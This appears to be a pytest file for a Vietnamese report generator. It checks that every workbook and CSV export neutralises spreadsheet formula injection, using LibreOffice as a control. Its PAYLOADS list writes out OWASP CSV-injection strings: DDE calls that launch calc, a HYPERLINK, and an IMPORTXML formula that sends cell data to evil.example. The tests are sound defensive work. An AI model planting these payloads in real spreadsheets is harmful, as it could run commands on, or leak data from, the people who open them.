"""No text from the register or from an agency's file ever becomes a formula in a spreadsheet the
tool writes (issue: «=HYPERLINK(...) becomes a working link in LibreOffice»).

One writer (generator.reports.workbook) for every .xlsx: the monthly report (the same bytes are
the e-mail attachment and the site's bao-cao/*.xlsx: tests/site/test_month_reports.py), the
reconcile result, the agency form, and any workbook another module builds through it. The whole
OWASP CSV-injection list is written through each; every produced workbook is opened again with
openpyxl (no cell of type «f», the text kept exactly, formula-like text quote-prefixed) and one
is converted by LibreOffice to CSV, where nothing may have been evaluated.
"""

from __future__ import annotations

import datetime as dt
import io
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from registerkit import DATA

from generator.register.load import load_register
from generator.register.status import compute_states
from generator.reports.cells import csv_text, formula_like
from generator.reports.export import export_csv, task_rows
from generator.reports.form import render_form
from generator.reports.monthly import monthly_report_for
from generator.reports.reconcile import read_agency_report, reconcile
from generator.reports.reconcile import render_xlsx as reconcile_xlsx
from generator.reports.workbook import new_workbook, put, workbook_bytes, write_table
from generator.reports.xlsx import render_xlsx
from generator.vi import printable

# The OWASP list: = + - @ tab CR, their full-width forms, and the classic payloads.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/","Bấm vào đây")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(1,2)",
    "+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "=2+5+cmd|' /C calc'!A0",
]
HARMLESS = ["- Lãnh đạo Văn phòng;", "-", "#N/A", "#REF!", "Đã hoàn thành 100%"]
# The texts as the register hands them on: its reader replaces control characters («\r» becomes
# a space), so a workbook made from the register meets these.
AS_READ = [printable(text) for text in PAYLOADS + HARMLESS]
REGISTER = DATA / "reports" / "register"
YAML_ESCAPES = {"\t": "\\t", "\r": "\\r", "\n": "\\n", '"': '\\"', "\\": "\\\\"}


def yaml_text(text: str) -> str:
    return '"' + "".join(YAML_ESCAPES.get(c, c) for c in text) + '"'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The reports register with one document whose tasks carry every payload: as contents, as
    delay reasons and as recommendations (a clerk can type any of them into the register)."""
    root = tmp_path_factory.mktemp("hostile") / "register"
    shutil.copytree(REGISTER, root)
    lines = [
        "number: 99/KH-UBND",
        "title: Kế hoạch thử",
        "issued: 2026-03-02",
        "signer: CT",
        "tasks:",
    ]
    for i, text in enumerate(PAYLOADS + HARMLESS, start=1):
        lines += [
            f"  - id: {i}",
            f"    content: {yaml_text(text)}",
            "    assignee: STC",
            "    monitor: TH",
            "    classification: QC45_b",
            "    deadline: 2026-03-10",
            "    progress:",
            "      - date: 2026-03-12",
            "        status: in_progress",
            f"        delay_reason: {yaml_text(text)}",
            f"        recommendation: {yaml_text(text)}",
        ]
    (root / "documents" / "2026" / "99-KH-UBND.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    register, problems = load_register(root)
    assert not [p for p in problems if p.severity == "error" and p.code in ("yaml-syntax", "wrong-type")]
    return register


def cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def assert_inert(data: bytes, expected: list[str]) -> None:
    found = cells(data)
    assert not [c.coordinate for c in found if c.data_type == "f"], "a cell is a formula"
    texts = {c.value for c in found if isinstance(c.value, str)}
    for text in expected:
        assert text in texts, f"{text!r} not kept as text"
    for c in found:
        if isinstance(c.value, str) and formula_like(c.value):
            assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)
        if isinstance(c.value, str) and c.value in HARMLESS:
            assert c.data_type == "s", (c.coordinate, c.value)  # #N/A stays text, not an error value


def test_the_formula_rule_covers_the_whole_list():
    for text in PAYLOADS:
        assert formula_like(text), text
        assert csv_text(text) == "'" + text
    for text in ["- Lãnh đạo Văn phòng;", "-", "Sở Tài chính", "", "2+3", "a=b"]:
        assert not formula_like(text), text
        assert csv_text(text) == text


def test_monthly_report_workbook(hostile):
    report = monthly_report_for(hostile, 2026, 3, as_of=dt.date(2026, 3, 25))
    data = render_xlsx(report)
    assert_inert(data, AS_READ)
    dates = [c for c in cells(data) if c.is_date]
    assert dates and all(isinstance(c.value, dt.datetime) for c in dates)  # dates stay dates
    numbers = [c.value for c in cells(data) if c.data_type == "n"]
    assert 7 in numbers or any(isinstance(n, int) for n in numbers)  # counts stay numbers


def test_agency_form(hostile):
    as_of = dt.date(2026, 3, 25)
    data = render_form(hostile, compute_states(hostile, as_of), "STC", 2026, 3, as_of)
    assert_inert(data, AS_READ)


def test_reconcile_result_with_the_agencys_own_text(hostile, tmp_path):
    """The agency's file is the attacker here: its ids, contents and notes come back in the result."""
    wb = Workbook()
    ws = wb.active
    ws.append(["Số, ký hiệu văn bản", "Nội dung nhiệm vụ", "Tình trạng", "Ghi chú"])
    for text in PAYLOADS:
        ws.append(["99/KH-UBND", text, "Đang thực hiện", text])
        ws.append([text, text, text, text])
    path = tmp_path / "bao-cao.xlsx"
    wb.save(path)
    as_of = dt.date(2026, 3, 25)
    result = reconcile(read_agency_report(path), compute_states(hostile, as_of), hostile, "STC", as_of)
    data = reconcile_xlsx(result)
    texts = {c.value for c in cells(data) if isinstance(c.value, str)}
    assert any("=HYPERLINK" in t for t in texts)
    assert_inert(data, [])


def test_any_workbook_built_through_the_writer_is_sealed():
    """Another module (the secret books) that sets cells its own way is still sealed on save."""
    wb = new_workbook()
    ws = wb.active
    ws["A1"] = "=1+1"  # openpyxl alone would store a live formula
    ws["A2"] = "#DIV/0!"  # … and an error value
    put(ws, 3, 1, '=HYPERLINK("http://evil.example/","x")')
    write_table(ws, 5, ["Cột"], [[p] for p in PAYLOADS], [30])
    put(ws, 30, 1, dt.date(2026, 3, 5))
    put(ws, 31, 1, 12)
    data = workbook_bytes(wb, dt.date(2026, 3, 25), "Thử")
    assert_inert(data, ["=1+1", "#DIV/0!"] + PAYLOADS)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A30"].is_date and sheet["A30"].number_format == "dd/mm/yyyy" and sheet["A31"].value == 12


def test_control_characters_never_crash_the_writer():
    wb = new_workbook()
    put(wb.active, 1, 1, "Nội dung\x0bcó\x00ký tự\x1f lạ")
    data = workbook_bytes(wb, dt.date(2026, 3, 25), "Thử\x0b")
    assert load_workbook(io.BytesIO(data)).active["A1"].value == "Nội dungcóký tự lạ"


def test_csv_export_uses_the_same_rule(hostile):
    states = compute_states(hostile, dt.date(2026, 3, 25))
    text = export_csv(task_rows(states)).decode("utf-8-sig")
    for payload in ["=1+1", "+1+1", "-2+3", "@SUM(A1:A2)", "＝1+1"]:
        assert f"'{payload}" in text
    assert ",- Lãnh đạo Văn phòng;," in text  # a list dash is left alone


def _libreoffice_csv(data: bytes, folder: Path) -> dict[str, str]:
    """Every sheet of the workbook as LibreOffice computes it, exported to CSV."""
    folder.mkdir()
    source = folder / "bang.xlsx"
    source.write_bytes(data)
    done = subprocess.run(
        [
            shutil.which("soffice") or "soffice",
            f"-env:UserInstallation={(folder / 'profile').as_uri()}",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
            "--outdir",
            str(folder),
            str(source),
        ],
        capture_output=True,
        timeout=180,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return {p.stem.removeprefix("bang-"): p.read_text("utf-8") for p in folder.glob("bang*.csv")}


def test_libreoffice_evaluates_nothing(tmp_path):
    """The file opened in LibreOffice, as a clerk would: every payload is shown as typed. A
    control workbook written by openpyxl alone shows that LibreOffice would evaluate them."""
    wb = new_workbook()
    wb.active.title = "Bang"
    for i, text in enumerate(PAYLOADS, start=1):
        put(wb.active, i, 1, text)
    sheets = _libreoffice_csv(workbook_bytes(wb, dt.date(2026, 3, 25), "Thử"), tmp_path / "safe")
    shown = sheets["Bang"]
    for text in ["=1+1", "+1+1", "-2+3", "@SUM(A1:A2)", "＝1+1", "=HYPERLINK(", "+cmd|' /C calc'!A0"]:
        assert text in shown, text
    lines = shown.splitlines()
    assert "2" not in lines and "1" not in lines and "#NAME?" not in shown and "Err:" not in shown

    control = Workbook()
    control.active.title = "Bang"
    control.active["A1"], control.active["A2"] = "=1+1", "-2+3"
    raw = io.BytesIO()
    control.save(raw)
    assert _libreoffice_csv(raw.getvalue(), tmp_path / "control")["Bang"].splitlines()[0] == "2"
